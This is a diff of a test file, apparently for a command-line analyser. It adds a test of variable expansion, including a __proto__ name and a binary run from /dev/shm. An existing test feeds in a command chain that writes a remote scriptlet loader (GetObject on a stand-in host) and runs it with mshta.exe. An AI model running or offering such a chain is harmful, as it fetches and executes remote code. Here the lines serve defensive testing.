@@ -152,6 +152,12 @@ describe("nesting", () => {
       "x",
     ]);
   });
+  it("hands down variables of every name", () => {
+    for (const name of ["A", "__proto__"])
+      expect(runs({ commandLine: `env ${name}=/dev/shm/k sh -c '$${name} -q'`, platform: "linux" })).toContain(
+        "/dev/shm/k -q",
+      );
+  });
   it("reads what the line itself wrote or copied before", () => {
     const script = 'echo GetObject("script:http://h.example/a.sct") > C:\\d\\a.js && mshta.exe C:\\d\\a.js';
     expect(runs(typed(script)).some((value) => value.includes("http://h.example/a.sct"))).toBe(true);
